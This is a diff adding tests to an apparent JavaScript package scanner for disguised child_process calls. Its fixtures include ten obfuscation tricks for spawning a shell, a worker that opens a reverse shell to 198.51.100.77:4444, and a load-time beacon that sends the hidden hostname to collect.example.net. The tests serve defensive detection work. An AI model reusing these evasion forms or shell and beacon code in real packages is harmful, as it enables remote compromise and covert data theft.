@@ -257,6 +257,55 @@ var _0x4b5c=require(_0x3a4b(0x0));_0x4b5c[_0x3a4b(0x1)]('id');
     expect(['medium', 'high', 'critical']).toContain(r.level);
   });
 
+  // Each form hides the name of a sensitive function that costs nothing to write plainly.
+  const disguised: [string, string][] = [
+    ['a base64-decoded key', `cp[Buffer.from('c3Bhd24=', 'base64').toString()]('sh', ['-c', 'id'])`],
+    ['a key of byte values', `cp[Buffer.from([0x73, 0x70, 0x61, 0x77, 0x6e]).toString()]('sh', ['-c', 'id'])`],
+    ['a fromCharCode key through .call', `cp[String.fromCharCode(0x73, 0x70, 0x61, 0x77, 0x6e)].call(cp, 'sh', ['-c', 'id'])`],
+    ['a hex-escaped key', `cp["\\x73\\x70\\x61\\x77\\x6e"]('sh', ['-c', 'id'])`],
+    ['a key split into pieces', `cp['sp' + 'awn']('sh', ['-c', 'id'])`],
+    ['Reflect.get', `Reflect.get(cp, 'spawn').apply({}, ['sh', ['-c', 'id']])`],
+    ['getOwnPropertyDescriptor', `Object.getOwnPropertyDescriptor(cp, 'spawn').value.bind({}, 'sh', ['-c', 'id'])()`],
+    ['a key searched for in getOwnPropertyNames', `cp[Object.getOwnPropertyNames(cp).find((k) => k === 'spawn')]('sh', ['-c', 'id'])`],
+    ['an entry searched for in Object.entries', `Object.entries(cp).find(([k]) => k === 'spawn')[1]('sh', ['-c', 'id'])`],
+    ['a decoded key held in a variable', `const k = atob('c3Bhd24=');\ncp[k]('sh', ['-c', 'id'])`],
+  ];
+  for (const [how, call] of disguised) {
+    it(`child_process.spawn called through ${how} at load time is medium`, () => {
+      const r = scan({ 'index.js': `const cp = require('child_process');\n${call};\n` });
+      expect(r.ids).toContain('obfuscated-code/disguisedCall');
+      expect(r.level).toBe('medium');
+      expect(r.findings.find((f) => f.messageId === 'disguisedCall')!.data).toMatchObject({ api: 'child_process.spawn()', reach: 'run when the package is loaded' });
+    });
+  }
+
+  it('a module name decoded for require is a disguised call', () => {
+    const r = scan({ 'index.js': `const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.exec('id');\n` });
+    expect(r.findings.find((f) => f.messageId === 'disguisedCall')?.data).toMatchObject({ api: "require('child_process')", how: 'a decoded name' });
+  });
+
+  it('a disguised spawn of a reverse shell, or a hidden hostname sent on load, is high', () => {
+    const shell = scan({
+      'index.js': `const cp = require('child_process');\nconst path = require('path');\ncp['sp' + 'awn'](process.execPath, [path.join(__dirname, 'worker.js')], { detached: true, stdio: 'ignore' }).unref();\n`,
+      'worker.js': `const net = require('net');\nconst { spawn } = require('child_process');\nconst sock = net.connect(4444, '198.51.100.77', () => {\n  const sh = spawn('/bin/sh', []);\n  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n});\n`,
+    });
+    expect(['high', 'critical']).toContain(shell.level);
+    const beacon = scan({ 'index.js': `const os = require('os');\nconst http = require('http');\nconst host = os[String.fromCharCode(0x68, 0x6f, 0x73, 0x74, 0x6e, 0x61, 0x6d, 0x65)]();\nhttp.request({ hostname: 'collect.example.net', path: '/h?host=' + encodeURIComponent(host) }).end();\n` });
+    expect(['high', 'critical']).toContain(beacon.level);
+  });
+
+  it('a name chosen by a variable or a condition, a plain bracket key and a split require are dispatch, not hiding', () => {
+    for (const code of [
+      `const cp = require('child_process');\nconst method = sync ? 'spawnSync' : 'spawn';\nmodule.exports = (c, a) => cp[method](c, a);\n`,
+      `const cp = require('child_process');\nlet which = 'spawn';\ncp[which]('git', ['status']);\n`,
+      `const cp = require('child_process');\ncp['spawn']('git', ['status']);\n`,
+      `const cp = require('child_' + 'process');\ncp.execSync('git status');\n`,
+      `const keys = Object.keys(options).find((k) => k === 'spawn');\nconst cp = require('child_process');\ncp.spawn('git', [keys]);\n`,
+    ]) {
+      expect(scan({ 'index.js': code }).ids).not.toContain('obfuscated-code/disguisedCall');
+    }
+  });
+
   it('Unicode identifier tables written as escapes are not obfuscation', () => {
     const table = `"use strict";\nlet nonASCIIidentifierStartChars = "\\xaa\\xb5\\xba\\xc0-\\xd6\\xd8-\\xf6\\xf8-\\u02c1\\u02c6-\\u02d1\\u02e0-\\u02e4\\u02ec\\u02ee\\u0370-\\u0374\\u0376\\u0377\\u037a-\\u037d\\u037f\\u0386\\u0388-\\u038a\\u038c\\u038e-\\u03a1\\u03a3-\\u03f5\\u03f7-\\u0481";\nexports.re = new RegExp("[" + nonASCIIidentifierStartChars + "]");\n`;
     expect(assessObfuscation(analyzeJavaScript(table)).obfuscated).toBe(false);
